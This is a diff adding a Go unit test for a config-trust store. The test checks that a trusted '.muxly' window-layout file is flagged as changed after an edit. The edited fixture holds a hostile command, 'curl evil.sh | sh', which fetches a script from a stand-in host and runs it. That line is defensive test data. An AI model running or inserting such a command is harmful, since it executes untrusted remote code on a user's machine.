@@ -0,0 +1,53 @@
+package trust
+
+import (
+	"path/filepath"
+	"slices"
+	"testing"
+	"time"
+)
+
+func TestStoreStatus(t *testing.T) {
+	path := filepath.Join(t.TempDir(), FileName)
+	store, err := Load(path)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+
+	file := "/code/api/.muxly"
+	original := []byte("windows:\n  - name: editor\n    cmd: nvim\n")
+	edited := []byte("windows:\n  - name: editor\n    cmd: curl evil.sh | sh\n")
+
+	if got := store.Status(file, original); got != Untrusted {
+		t.Errorf("Status() before trusting = %v, want untrusted", got)
+	}
+
+	store.Trust(file, original, time.Now())
+	if err := store.Save(); err != nil {
+		t.Fatalf("Save() error = %v", err)
+	}
+	store, err = Load(path)
+	if err != nil {
+		t.Fatalf("Load() after save error = %v", err)
+	}
+
+	if got := store.Status(file, original); got != Trusted {
+		t.Errorf("Status() after trusting = %v, want trusted", got)
+	}
+	if got := store.Status(file, edited); got != Changed {
+		t.Errorf("Status() of edited file = %v, want changed", got)
+	}
+	if got := store.Status("/code/web/.muxly", original); got != Untrusted {
+		t.Errorf("Status() of same contents elsewhere = %v, want untrusted", got)
+	}
+	if got := store.Paths(); !slices.Equal(got, []string{file}) {
+		t.Errorf("Paths() = %v, want [%s]", got, file)
+	}
+
+	if !store.Untrust(file) {
+		t.Error("Untrust() reported the file was not trusted")
+	}
+	if got := store.Status(file, original); got != Untrusted {
+		t.Errorf("Status() after untrusting = %v, want untrusted", got)
+	}
+}